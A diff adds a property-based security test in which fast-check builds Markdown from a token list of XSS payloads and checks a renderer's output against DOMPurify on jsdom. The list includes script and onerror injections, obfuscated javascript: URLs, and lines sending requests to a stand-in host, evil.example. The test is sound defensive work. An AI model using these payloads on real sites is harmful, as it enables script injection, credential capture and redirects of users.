@@ -1,0 +1,123 @@
+import createDOMPurify from 'dompurify'
+import fc from 'fast-check'
+import { JSDOM } from 'jsdom'
+import { describe, expect, it } from 'vitest'
+import { renderMarkdown } from './markdown.ts'
+
+/*
+ * Security matrix E2, the differential oracle: fast-check writes Markdown from an XSS token
+ * grammar; whatever our pipeline (remark → rehype, raw HTML off → rehype-sanitize) emits must be
+ * something DOMPurify — run on jsdom, as the matrix requires (never happy-dom or linkedom) — finds
+ * nothing to remove. A difference means our output carried markup a second, independent
+ * sanitiser considers dangerous.
+ */
+const window = new JSDOM('').window
+const purify = createDOMPurify(window)
+
+const TOKENS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt:alert(1))',
+  '[a](&#106;avascript:alert(1))',
+  '[a](java\tscript:alert(1))',
+  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[a](vbscript:msgbox(1))',
+  '<javascript:alert(1)>',
+  '[a][r]\n\n[r]: javascript:alert(1)',
+  '![x](x" onerror="alert(1))',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mi xlink:href="data:x,alert(1)">x</mi></math>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
+  '<style>@import url(//evil.example/x.css)</style>',
+  '<form action=//evil.example><button>x</button></form>',
+  '<base href=//evil.example/>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<a id="__proto__" name="getElementById">x</a>',
+  '＜script＞alert(1)＜/script＞',
+  '﹤img src=x onerror=alert(1)﹥',
+  '[ok](https://example.com/a?b=1&c=2)',
+  '<https://example.com>',
+  '![图](https://example.com/a.png)',
+  '**加粗**',
+  '_强调_',
+  '`code <b>`',
+  '```\n<script>\n```',
+  '| 表 | 头 |\n| - | - |\n| <img src=x onerror=1> | b |',
+  '# 标题',
+  '- 列表',
+  '> 引用',
+  '[^1]\n\n[^1]: 脚注',
+  '\n\n',
+  ' ',
+  '<',
+  '>',
+  '"',
+  "'",
+  '=',
+  '](',
+  ')',
+  '&amp;',
+  '&#x3C;script&#x3E;',
+  '经查，该企业以停水方式催缴物业费。',
+]
+const markdown = fc
+  .array(fc.constantFrom(...TOKENS), { minLength: 1, maxLength: 12 })
+  .map((t) => t.join(''))
+
+/** The browser's own serialisation of an HTML fragment, so both sides are compared alike. */
+function normalise(html: string): string {
+  return parse(html).innerHTML
+}
+
+/** Parsed by jsdom (a test oracle, not a page: nothing here runs in a browser). */
+function parse(html: string): HTMLTemplateElement {
+  const template = window.document.createElement('template')
+  // eslint-disable-next-line no-unsanitized/property -- jsdom in a test, inert template content
+  template.innerHTML = html
+  return template
+}
+
+describe('E2 Markdown pipeline against DOMPurify on jsdom (fast-check)', () => {
+  it('emits nothing a second sanitiser would remove', () => {
+    fc.assert(
+      fc.property(markdown, (md) => {
+        const html = normalise(renderMarkdown(md))
+        expect(normalise(purify.sanitize(html))).toBe(html)
+      }),
+      { numRuns: 1000 }
+    )
+  })
+
+  it('emits no executable element, event handler or script URL', () => {
+    fc.assert(
+      fc.property(markdown, (md) => {
+        const template = parse(renderMarkdown(md))
+        const all = [...template.content.querySelectorAll('*')]
+        for (const el of all) {
+          expect([
+            'script',
+            'iframe',
+            'object',
+            'embed',
+            'svg',
+            'math',
+            'style',
+            'form',
+            'base',
+            'meta',
+          ]).not.toContain(el.localName)
+          for (const attr of el.attributes) {
+            expect(attr.name).not.toMatch(/^on/i)
+            if (attr.name === 'href' || attr.name === 'src')
+              expect(attr.value).toMatch(/^(https?:|mailto:|#|\/|[^:]*$)/i)
+            if (attr.name === 'id' || attr.name === 'name')
+              expect(attr.value).toMatch(/^user-content-/)
+          }
+        }
+      }),
+      { numRuns: 1000 }
+    )
+  })
+})
